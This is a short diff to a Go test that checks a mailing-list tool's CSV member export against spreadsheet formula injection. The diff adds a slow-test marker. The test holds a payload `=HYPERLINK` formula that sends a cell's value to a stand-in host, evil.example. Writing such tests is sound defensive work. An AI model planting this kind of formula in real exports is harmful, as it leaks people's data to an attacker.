@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"cloister/internal/testdirs"
 	"cloister/lists"
 )
 
@@ -15,6 +16,7 @@ import (
 // reaches the owner's CSV export of the members as text: no cell starts
 // with = + - @, so a spreadsheet opening the file runs nothing.
 func TestAttackMemberExportFormula(t *testing.T) {
+	testdirs.Slow(t, "runs cloister web as a process (built from cmd/cloister)")
 	ws := newWebSite(t, TLSFiles{})
 	ws.setSetting(t, "team@lists.test", "admin", "admin.owner_confirmed")
 	payload := `=HYPERLINK("https://evil.example/?"&A2,"Click")`
